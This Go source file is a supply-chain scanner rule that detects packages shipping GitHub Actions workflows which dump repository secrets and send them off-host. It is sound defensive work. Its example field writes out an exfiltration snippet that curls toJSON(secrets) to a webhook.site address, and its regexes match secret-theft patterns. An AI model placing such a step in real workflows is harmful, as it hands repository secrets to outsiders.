package persist

import (
	"context"
	"fmt"
	"path"
	"regexp"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/archive"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// CIWorkflow flags CI workflow files the package ships (as .yml or as a
// template of any name) that send the repository's secrets off-host.
type CIWorkflow struct{}

// Meta implements analyze.Rule.
func (CIWorkflow) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "persist/ci-workflow", Version: 2, Title: "Ships a CI workflow that sends the repository's secrets away",
		Help: "A file of the package, as .yml or .yaml or as a template (lint.yml.tpl, ci.tmpl, an extensionless file), is a GitHub Actions workflow (runs-on: and steps:) that serialises " +
			"every secret of the repository (${{ toJSON(secrets) }}) and sends it with curl, wget or Invoke-WebRequest to a host that is not " +
			"GitHub's, or sends any secret or the job's token to a request bin, tunnel, paste site or a public IP address: critical. A " +
			"workflow that dumps every secret without sending it anywhere the file names is high. A package that writes such a file into " +
			"your repository (a \"bootstrap\" CLI, a worm) plants a job that hands your secrets over on the next push or pull request " +
			"(Shai-Hulud's workflows, tj-actions-style dumps). A workflow kept as text in the package's code counts the same. Documentation (.md) is not read.",
		Remediation:     "Remove the package, delete the workflow it added to any repository and rotate every secret of those repositories.",
		Example:         "env:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -d \"$ALL\" https://webhook.site/…",
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedFiles | analyze.NeedCode,
	}
}

var (
	// allSecrets is the whole secrets context serialised.
	allSecrets = regexp.MustCompile(`(?i)toJSON\(\s*secrets\s*\)`)
	// secretRef is one secret or the job's token.
	secretRef = regexp.MustCompile(`(?i)\$\{\{\s*(secrets\.|github\.token)|GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST`)
	// sendCmd is a command that sends a request.
	sendCmd = regexp.MustCompile(`(?i)\b(curl|wget|invoke-webrequest|invoke-restmethod|iwr|irm)\b`)
)

// Check implements analyze.Rule.
func (CIWorkflow) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, name := range t.Files() {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		ext := strings.ToLower(path.Ext(name))
		yml := ext == ".yml" || ext == ".yaml"
		if !yml && !templateExt[ext] {
			continue
		}
		head, err := t.Head(name, 256<<10)
		// a template of another name (lint.yml.tpl, ci.tmpl, ci) must
		// open like a workflow
		if err != nil || !yml && !analyze.WorkflowHead(head[:min(len(head), archive.HeadBytes)]) || !workflowText(head) {
			continue
		}
		if t.Role(name) == analyze.RoleDocs {
			continue
		}
		if in, ok := judgeWorkflow(string(head)); ok {
			in.File = name
			r.Report(in)
		}
	}
	// the workflow kept as text in code, for the code to write into
	// the repository it runs in
	for _, f := range rulekit.Code(ctx, t) {
		if !f.Role.Live() {
			continue
		}
		for _, s := range f.Facts.Strings {
			if len(s.Value) > 64<<10 || !workflowText([]byte(s.Value)) {
				continue
			}
			if in, ok := judgeWorkflow(s.Value); ok {
				in.File, in.Line = f.Name, s.Pos.Line
				in.Message = strings.Replace(in.Message, "ships a CI workflow", "holds a CI workflow as text", 1)
				r.Report(in)
				break
			}
		}
	}
	return nil
}

// judgeWorkflow returns the finding for a workflow's text, with its line
// in the text; false if it sends or dumps no secrets.
func judgeWorkflow(text string) (analyze.Instance, bool) {
	dump := allSecrets.FindString(text)
	if dump == "" && !secretRef.MatchString(text) {
		return analyze.Instance{}, false
	}
	host, line := sentTo(text, dump != "")
	switch {
	case host != "":
		what := "the job's secrets"
		if dump != "" {
			what = "every secret of the repository (" + dump + ")"
		}
		return analyze.Instance{Line: line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
			Message: fmt.Sprintf("ships a CI workflow that sends %s to %s", what, host)}, true
	case dump != "":
		return analyze.Instance{Line: lineOf(text, dump), Severity: finding.SeverityHigh, Confidence: finding.ConfidenceMedium,
			Message: "ships a CI workflow that serialises every secret of the repository (" + dump + ")"}, true
	}
	return analyze.Instance{}, false
}

// templateExt are the extensions a workflow template may have besides
// .yml and .yaml (none at all too).
var templateExt = map[string]bool{"": true, ".tpl": true, ".tmpl": true, ".template": true, ".txt": true, ".j2": true, ".hbs": true,
	".ejs": true, ".mustache": true, ".njk": true, ".liquid": true, ".eta": true, ".dist": true, ".example": true, ".sample": true}

// workflowText reports a GitHub Actions workflow: a job's runner and its
// steps.
func workflowText(b []byte) bool {
	s := string(b)
	return strings.Contains(s, "runs-on:") && strings.Contains(s, "steps:")
}

// sentTo returns the host a workflow's request command sends to, with its
// line: any host but GitHub's and local ones when the whole secrets
// context is dumped (any), else only a request bin, tunnel or paste site
// (not a chat webhook: notifications post there) or a public IP.
func sentTo(text string, any bool) (string, int) {
	for i, l := range strings.Split(text, "\n") {
		if !sendCmd.MatchString(l) {
			continue
		}
		for _, u := range rulekit.URLs(l) {
			h := rulekit.Host(u)
			switch {
			case h == "" || rulekit.LocalHost(h) || githubHost(h):
				continue
			case rulekit.PublicIP(h):
				return h, i + 1
			case rulekit.ExfilService(u) != "" && !rulekit.ChatService(rulekit.ExfilService(u)):
				return rulekit.ExfilService(u), i + 1
			case any:
				return h, i + 1
			}
		}
	}
	return "", 0
}

// githubHost reports GitHub's own hosts, where workflows legitimately
// send their token.
func githubHost(h string) bool {
	for _, s := range []string{"github.com", "githubusercontent.com", "github.io", "ghcr.io", "actions.githubusercontent.com"} {
		if h == s || strings.HasSuffix(h, "."+s) {
			return true
		}
	}
	return false
}

// lineOf returns the line of the first occurrence of sub in text.
func lineOf(text, sub string) int {
	if i := strings.Index(text, sub); i >= 0 {
		return strings.Count(text[:i], "\n") + 1
	}
	return 0
}
